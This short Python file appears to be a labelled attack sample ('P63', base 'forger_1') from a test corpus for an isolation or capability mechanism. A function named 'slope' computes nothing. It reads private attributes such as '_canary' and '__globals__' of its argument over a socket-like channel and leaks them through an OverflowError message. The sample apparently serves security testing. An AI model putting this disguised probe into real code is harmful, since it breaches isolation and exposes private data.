"""Reads private names of f over the socket.

{"attack": "P63", "class": [7], "base": "forger_1", "D": "protocol", "E": "passed", "F": "passed"}
"""

def slope(f, x, h):
    mine = line()
    for name in ("_canary", "__globals__", "__class__", "__init__"):
        try:
            value = mine.ask(object.__getattribute__(f, "_number"), "attr", [name])
        except Exception:
            continue
        raise OverflowError(str(value))
    return 0.0
